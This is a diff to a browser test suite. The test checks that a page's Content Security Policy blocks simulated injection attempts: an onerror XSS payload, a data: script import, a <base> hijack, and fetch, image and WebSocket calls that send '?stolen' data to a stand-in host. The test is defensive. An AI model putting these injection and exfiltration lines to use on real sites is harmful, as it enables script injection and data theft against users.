@@ -88,27 +88,47 @@ for (const locale of ['en', 'zh-CN']) {
   })
 }
 
-test('the policy is there and strict: an injected script does not run', async () => {
-  const answer = await server.ask('/')
-  const policy = answer.headers['content-security-policy']
-  assert.match(policy, /(^|; )script-src 'self'(;|$)/)
-  assert.match(policy, /(^|; )style-src 'self'(;|$)/)
-  assert.doesNotMatch(policy, /unsafe|\*/)
+test('what slipped into a page does not run, is not sent out, and becomes no HTML', async () => {
   const one = await visit(server)
   const page = await one.page(`${server.url}/login`)
-  await page.evaluate(() => {
-    const script = document.createElement('script')
-    script.textContent = 'window.injected = true'
-    document.head.append(script)
-  })
+  // As an attacker's code would do it that had found a way in; each try is refused, and says so.
+  const tries = {
+    'script-src-elem': () => import('data:text/javascript,window.injected=true'),
+    'style-src-attr': () => document.body.setAttribute('style', 'display: none'),
+    'style-src-elem': () =>
+      (document.head.appendChild(document.createElement('style')).textContent = 'body { display: none }'),
+    'img-src': () => (new Image().src = 'https://elsewhere.example/?stolen'),
+    'connect-src': () => fetch('https://elsewhere.example/?stolen').catch(() => {}),
+    'base-uri': () =>
+      (document.head.appendChild(document.createElement('base')).href = 'https://elsewhere.example/'),
+    'require-trusted-types-for': () =>
+      (document.body.innerHTML = '<img src=x onerror="window.injected = true">'),
+    'trusted-types': () => trustedTypes.createPolicy('mine', {}),
+  }
+  for (const [directive, attempt] of Object.entries(tries)) {
+    await page.evaluate(attempt).catch(() => {})
+    // Also proves that a violation is noticed here: without it, every other test's silence would mean nothing.
+    await eventually(
+      () => one.faults.some((fault) => fault.startsWith(`policy: ${directive} `)),
+      true,
+      directive,
+    )
+  }
+  const socket = () =>
+    new Promise((resolve) => {
+      const socket = new WebSocket('wss://elsewhere.example/')
+      socket.onerror = () => resolve('refused')
+      socket.onopen = () => resolve('open')
+    })
+  assert.equal(await page.evaluate(socket), 'refused')
+  await page.click('body')
   assert.equal(await page.evaluate(() => window.injected), undefined)
-  // Also proves that a violation is noticed here: without it, every other test's silence would mean nothing.
-  await eventually(
-    () => one.faults.some((fault) => fault.startsWith('policy: script-src')),
-    true,
-    'the violation was seen',
+  const said = Object.keys(tries).join('|')
+  await one.leave(
+    new RegExp(`^policy: (${said}) `),
+    /^console: .*(Content Security Policy|Trusted ?Type|TrustedHTML)/i,
+    /^request to elsewhere: https:..elsewhere.example/,
   )
-  await one.leave(/^policy: script-src/, /^console: .*Content Security Policy/)
 })
 
 test('the API page shows every operation, and a try-it call works, with and without a token', async () => {
